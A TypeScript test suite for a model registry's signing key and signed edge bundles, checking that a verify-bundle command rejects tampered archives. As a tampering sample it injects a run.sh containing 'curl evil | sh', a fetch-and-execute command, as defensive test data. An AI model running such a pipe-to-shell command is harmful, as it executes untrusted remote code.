import { spawnSync } from 'node:child_process';
import { createHash, randomBytes, verify } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as edgeBundleRoute } from '@/app/api/v1/models/[name]/versions/[version]/edge-bundle/route';
import { GET as signingKeyRoute } from '@/app/api/v1/signing-key/route';
import { EXIT, type CommandIo } from '@/lib/cli/commands/io';
import { verifyBundleCommand } from '@/lib/cli/commands/verify-bundle';
import { db } from '@/lib/db';
import { writeLinearModel } from '@/lib/onnx/linear-model';
import { projectRoot } from '@/lib/runtime/paths';
import { readTar, writeTar } from '@/lib/server/edge/ustar';
import { call, createTestUser } from '../helpers';
import { api } from '../registry-api';

let artifactDir: string;
let workDir: string;
let engineer: Awaited<ReturnType<typeof createTestUser>>;
let viewer: Awaited<ReturnType<typeof createTestUser>>;
const originalKey = process.env.MODELDECK_ENCRYPTION_KEY;

const onnxBytes = writeLinearModel({ kind: 'logistic', featureNames: ['tenure', 'spend', 'tickets'], weights: [0.4, -0.2, 0.9], bias: -0.1 });
const features = [
  { name: 'tenure', type: 'numeric' },
  { name: 'spend', type: 'numeric' },
  { name: 'tickets', type: 'numeric' },
];

async function onnxVersion() {
  const name = `edge-${randomBytes(3).toString('hex')}`;
  expect((await api.createModel(engineer.token, { name })).status).toBe(201);
  const registered = await api.registerVersion(engineer.token, name, { format: 'onnx', features, metrics: { auc: 0.9 } });
  expect(registered.status, registered.text).toBe(201);
  const uploaded = await api.upload(engineer.token, name, 1, onnxBytes);
  expect(uploaded.status, uploaded.text).toBe(200);
  return name;
}

async function downloadBundle(token: string, name: string, version: number) {
  const request = new Request(`http://localhost/api/v1/models/${name}/versions/${version}/edge-bundle`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const response = await edgeBundleRoute(request, { params: Promise.resolve({ name, version: String(version) }) });
  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
}

const signingKey = (token: string) => call(signingKeyRoute, { path: '/api/v1/signing-key', token });

function captureIo(): CommandIo & { out: string; err: string } {
  const io = {
    env: {},
    cwd: workDir,
    out: '',
    err: '',
    stdout: (text: string) => void (io.out += text),
    stderr: (text: string) => void (io.err += text),
  };
  return io;
}

/** The bundle with one file's bytes replaced, re-packed as a well-formed .tar.gz. */
async function repack(bundle: Buffer, change: (files: Map<string, Buffer>) => void) {
  const files = new Map(readTar(gunzipSync(bundle)));
  change(files);
  const chunks: Uint8Array[] = [];
  for await (const chunk of writeTar([...files].map(([name, body]) => ({ name, size: body.length, mtime: 0, body })))) chunks.push(chunk);
  return gzipSync(Buffer.concat(chunks));
}

beforeAll(async () => {
  artifactDir = await mkdtemp(path.join(tmpdir(), 'modeldeck-edge-artifacts-'));
  workDir = await mkdtemp(path.join(tmpdir(), 'modeldeck-edge-work-'));
  process.env.ARTIFACT_DIR = artifactDir;
  process.env.MODELDECK_ENCRYPTION_KEY = randomBytes(32).toString('base64');
  [engineer, viewer] = await Promise.all([createTestUser(['engineer']), createTestUser(['viewer'])]);
});

afterAll(async () => {
  delete process.env.ARTIFACT_DIR;
  process.env.MODELDECK_ENCRYPTION_KEY = originalKey;
  await rm(artifactDir, { recursive: true, force: true });
  await rm(workDir, { recursive: true, force: true });
});

describe('signing key', () => {
  it('is generated once, even by concurrent first requests, and audited once; the private key is stored sealed', async () => {
    const answers = await Promise.all(Array.from({ length: 6 }, () => signingKey(viewer.token)));
    expect(answers.map((a) => a.status)).toEqual([200, 200, 200, 200, 200, 200]);
    expect(new Set(answers.map((a) => a.body.publicKey)).size).toBe(1);
    expect(answers[0]!.body).toMatchObject({ algorithm: 'Ed25519', publicKey: expect.stringContaining('-----BEGIN PUBLIC KEY-----') });

    const rows = await db().signingKey.findMany();
    expect(rows).toHaveLength(1);
    expect(rows[0]!.privateKeySealed).toMatch(/^v1\./);
    expect(rows[0]!.privateKeySealed).not.toContain('PRIVATE KEY');
    const audited = await db().auditEntry.findMany({ where: { action: 'signing_key.create' } });
    expect(audited).toHaveLength(1);
    expect(audited[0]!.actorId).toBe(viewer.user.id);

    expect((await signingKey(engineer.token)).body.publicKey).toBe(answers[0]!.body.publicKey);
  });

  it('needs a signed-in user', async () => {
    expect((await signingKey('md_not-a-token')).status).toBe(401);
  });
});

describe('edge bundle', () => {
  it('is a .tar.gz with model.onnx, a manifest of the graph, and a signature the published key verifies', async () => {
    const name = await onnxVersion();
    const { status, headers, bytes } = await downloadBundle(viewer.token, name, 1);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('application/gzip');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}-v1-edge.tar.gz"`);

    const files = readTar(gunzipSync(bytes));
    expect([...files.keys()].sort()).toEqual(['manifest.json', 'manifest.json.sig', 'model.onnx']);
    expect(Buffer.compare(files.get('model.onnx')!, Buffer.from(onnxBytes))).toBe(0);

    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    const version = await db().modelVersion.findFirstOrThrow({ where: { model: { name }, version: 1 } });
    expect(manifest).toEqual({
      name,
      version: 1,
      format: 'onnx',
      features,
      inputs: [{ name: 'X', type: 'float32', shape: ['N', 3] }],
      outputs: [
        { name: 'probability', type: 'float32', shape: ['N', 1] },
        { name: 'label', type: 'int64', shape: ['N', 1] },
      ],
      sha256: createHash('sha256').update(onnxBytes).digest('hex'),
      createdAt: version.createdAt.toISOString(),
    });

    const { body: key } = await signingKey(viewer.token);
    const signature = Buffer.from(files.get('manifest.json.sig')!.toString('ascii').trim(), 'base64');
    expect(verify(null, files.get('manifest.json')!, key.publicKey, signature)).toBe(true);

    // Downloads are reads: nothing is audited for them.
    expect(await db().auditEntry.count({ where: { targetId: `${name}@1`, action: { contains: 'bundle' } } })).toBe(0);
  });

  it('verify-bundle accepts it and refuses a tampered model.onnx, manifest.json or extra file, with exit code 1', async () => {
    const name = await onnxVersion();
    const { bytes } = await downloadBundle(engineer.token, name, 1);
    const { body: key } = await signingKey(engineer.token);
    await writeFile(path.join(workDir, 'key.json'), JSON.stringify(key));
    await writeFile(path.join(workDir, 'key.pem'), key.publicKey);
    await writeFile(path.join(workDir, 'good.tar.gz'), bytes);

    const good = captureIo();
    expect(await verifyBundleCommand(['good.tar.gz', '--public-key', 'key.json'], good)).toBe(EXIT.ok);
    expect(good.out).toContain(`OK good.tar.gz: ${name} v1, signature valid`);

    const flippedModel = await repack(bytes, (files) => {
      const model = Buffer.from(files.get('model.onnx')!);
      model[model.length - 1]! ^= 0xff;
      files.set('model.onnx', model);
    });
    await writeFile(path.join(workDir, 'model-tampered.tar.gz'), flippedModel);
    const modelIo = captureIo();
    expect(await verifyBundleCommand(['model-tampered.tar.gz', '--public-key', 'key.pem'], modelIo)).toBe(EXIT.failed);
    expect(modelIo.err).toMatch(/INVALID model-tampered\.tar\.gz: model\.onnx has sha256 [0-9a-f]{64}, but the signed manifest says .*the model was altered/);

    const editedManifest = await repack(bytes, (files) => {
      const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
      manifest.sha256 = createHash('sha256').update(Buffer.from(files.get('model.onnx')!).fill(1)).digest('hex');
      files.set('manifest.json', Buffer.from(JSON.stringify(manifest, null, 2) + '\n'));
    });
    await writeFile(path.join(workDir, 'manifest-tampered.tar.gz'), editedManifest);
    const manifestIo = captureIo();
    expect(await verifyBundleCommand(['manifest-tampered.tar.gz', '--public-key', 'key.pem'], manifestIo)).toBe(EXIT.failed);
    expect(manifestIo.err).toContain('The signature does not match manifest.json');

    const extraFile = await repack(bytes, (files) => files.set('run.sh', Buffer.from('curl evil | sh\n')));
    await writeFile(path.join(workDir, 'extra.tar.gz'), extraFile);
    const extraIo = captureIo();
    expect(await verifyBundleCommand(['extra.tar.gz', '--public-key', 'key.pem'], extraIo)).toBe(EXIT.failed);
    expect(extraIo.err).toContain('files the signature does not cover: run.sh');

    const usageIo = captureIo();
    expect(await verifyBundleCommand(['good.tar.gz'], usageIo)).toBe(EXIT.usage);
    expect(usageIo.err).toContain('Usage: modeldeck verify-bundle');
  });

  it('`npx modeldeck verify-bundle` exits 1 on a tampered bundle and 0 on the original, from another directory', async () => {
    const cli = path.join(projectRoot, 'lib/cli/modeldeck.mjs');
    const run = (file: string) =>
      spawnSync(process.execPath, [cli, 'verify-bundle', file, '--public-key', 'key.pem'], {
        cwd: workDir,
        encoding: 'utf8',
      });
    const good = run('good.tar.gz');
    expect(good.status, good.stderr).toBe(0);
    const bad = run('model-tampered.tar.gz');
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('the model was altered');
  });

  it('refuses, naming why, a version whose artifact is not stored or not ONNX', async () => {
    const name = `edge-${randomBytes(3).toString('hex')}`;
    await api.createModel(engineer.token, { name });
    await api.registerVersion(engineer.token, name, { format: 'onnx', artifactUri: 's3://bucket/model.onnx' });
    await api.registerVersion(engineer.token, name, { format: 'pickle' });
    await api.registerVersion(engineer.token, name, { format: 'onnx' });
    await api.upload(engineer.token, name, 3, Buffer.from('not an onnx graph'));

    const byUri = await call(edgeBundleRoute, { path: '/x', token: viewer.token, params: { name, version: '1' } });
    expect(byUri.status).toBe(409);
    expect(byUri.body).toMatchObject({ code: 'no_stored_artifact', detail: expect.stringContaining('s3://bucket/model.onnx') });
    const pickle = await call(edgeBundleRoute, { path: '/x', token: viewer.token, params: { name, version: '2' } });
    expect(pickle.status).toBe(422);
    expect(pickle.body).toMatchObject({ code: 'not_onnx', detail: expect.stringContaining('pickle') });
    const garbage = await call(edgeBundleRoute, { path: '/x', token: viewer.token, params: { name, version: '3' } });
    expect(garbage.status).toBe(422);
    expect(garbage.body.code).toBe('invalid_onnx');
    const missing = await call(edgeBundleRoute, { path: '/x', token: viewer.token, params: { name, version: '9' } });
    expect(missing.status).toBe(404);
  });
});
